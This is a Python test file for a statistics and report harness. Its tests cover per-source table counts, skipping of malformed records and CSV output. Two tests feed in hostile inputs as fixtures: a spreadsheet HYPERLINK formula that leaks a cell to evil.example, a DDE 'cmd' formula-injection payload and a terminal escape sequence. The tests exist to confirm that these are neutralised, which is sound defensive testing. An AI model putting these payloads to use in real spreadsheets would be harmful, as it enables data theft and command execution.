"""Table 1 and the report; the bundled data is current."""

from __future__ import annotations

import math

from harness.config import StatsConfig
from harness.data import bundled_path
from harness.data.build import build
from harness.io import write_records
from harness.stats import collect, run_stats, table1


def test_table1_per_source_and_total(tmp_path):
    write_records(
        [
            {"id": "a", "source": "oss", "tests": ["t"] * 20},
            {"id": "b", "source": "evol", "tests": ["t"] * 18},
            {"id": "c", "source": "evol", "tests": ["t"] * 10},
        ],
        tmp_path / "synth.jsonl",
    )
    write_records(
        [
            {"id": "a", "source": "oss", "tests": ["t"] * 15, "num_tests_before": 20},
            {"id": "b", "source": "evol", "tests": ["t"] * 9, "num_tests_before": 18},
        ],
        tmp_path / "filter.jsonl",
    )
    write_records(
        [{"id": "a", "source": "oss", "inferences": [{"pass_rate": 1.0}, {"pass_rate": 0.5}]}],
        tmp_path / "sample.jsonl",
    )
    write_records([{"id": "a"}, {"id": "a"}, {"id": "a"}], tmp_path / "pairs.jsonl")
    table = table1(collect(StatsConfig(run_dir=str(tmp_path))))
    assert list(table.index) == ["evol", "oss", "total"]
    assert table.loc["oss", "avg_tests_before"] == 20 and table.loc["oss", "avg_tests_after"] == 15
    assert table.loc["evol", "questions_synthesized"] == 2 and table.loc["evol", "questions"] == 1
    assert table.loc["total", "pairs"] == 3 and table.loc["oss", "mean_pass_rate"] == 0.75
    assert math.isnan(table.loc["evol", "mean_pass_rate"])
    summary = run_stats(StatsConfig(run_dir=str(tmp_path), title="T <1>"))
    html = (tmp_path / "report.html").read_text()
    assert "<title>T &lt;1&gt;</title>" in html and html.count("base64,") == summary["plots"] == 4
    assert "| total |" in (tmp_path / "stats.md").read_text()


def test_wrong_typed_records_are_named_and_left_out_and_source_names_stay_in_their_cell(tmp_path):
    """A record with a wrong-typed field raised a bare TypeError (no table, no file or line);
    it is left out and named now, and the rest is counted. A source name cannot break the
    Markdown table or send escape sequences to the terminal that prints it."""
    import json

    def jsonl(name, rows):
        (tmp_path / name).write_text("".join(json.dumps(r) + "\n" for r in rows))

    jsonl("synth.jsonl", [{"id": "a", "source": "x|y\n\x1b[2J", "tests": ["assert 1"]}, {"id": "b", "tests": 5}])
    jsonl("filter.jsonl", [{"id": "a", "tests": ["assert 1"], "num_tests_before": "x"}])
    jsonl("sample.jsonl", [{"id": "a", "inferences": [{"pass_rate": 1.0}]}, {"id": "b", "inferences": [{"pass_rate": "hi"}]}])
    summary = run_stats(StatsConfig(run_dir=str(tmp_path)))
    assert summary["skipped"] == [
        f"{tmp_path / 'synth.jsonl'}: line 2: field 'tests' must be a list, got int",
        f"{tmp_path / 'filter.jsonl'}: line 1: field 'num_tests_before' must be an integer, got str",
        f"{tmp_path / 'sample.jsonl'}: line 2: inferences[0] must be an object with a 'pass_rate' in [0, 1]",
    ]
    total = summary["table"][-1]
    assert total["questions_synthesized"] == 1 and total["completions"] == 1
    md = (tmp_path / "stats.md").read_text()
    assert "\x1b" not in md and len(md.splitlines()) == 4 and "x\\|y" in md
    assert "Records left out (3)" in (tmp_path / "report.html").read_text()


def test_stats_of_an_empty_run_still_renders(tmp_path):
    summary = run_stats(StatsConfig(run_dir=str(tmp_path)))
    assert (tmp_path / "report.html").exists() and summary["table"][-1]["source"] == "total"


def test_bundled_data_matches_its_builder(tmp_path):
    """A prompt template changed without rebuilding? Run: python -m harness.data.build"""
    build(tmp_path)
    for name in ("seeds.jsonl", "replay.jsonl"):
        assert (tmp_path / name).read_text() == bundled_path(name).read_text(), f"{name} is stale"



def test_stats_csv_guards_hostile_source_names_and_keeps_numbers(tmp_path):
    """stats.csv is for spreadsheets: a source name from the data (the one text column; question
    ids only decide which row a record counts in) that starts like a formula opens as text."""
    import csv

    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    records = [
        {"id": "=cmd|' /C calc'!A0", "source": hyperlink, "tests": ["t"] * 2},
        {"id": "+1", "source": "-2+3", "tests": ["t"]},
        {"id": "b", "source": "oss\r@x", "tests": ["t"] * 4},
    ]
    write_records(records, tmp_path / "synth.jsonl")
    write_records([{"id": "=cmd|' /C calc'!A0", "tests": ["t"], "num_tests_before": 2}], tmp_path / "filter.jsonl")
    write_records([{"id": "=cmd|' /C calc'!A0"}], tmp_path / "pairs.jsonl")
    run_stats(StatsConfig(run_dir=str(tmp_path)))
    with open(tmp_path / "stats.csv", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][:3] == ["source", "questions_synthesized", "questions"]
    by_source = {row[0]: row[1:] for row in rows[1:]}
    assert set(by_source) == {"'" + hyperlink, "'-2+3", "oss\r@x", "total"}
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in by_source)
    hostile = dict(zip(rows[0][1:], by_source["'" + hyperlink]))
    assert hostile["questions_synthesized"] == "1" and hostile["questions"] == "1" and hostile["pairs"] == "1"
    assert hostile["avg_tests_before"] == "2.0" and hostile["avg_tests_after"] == "1.0"
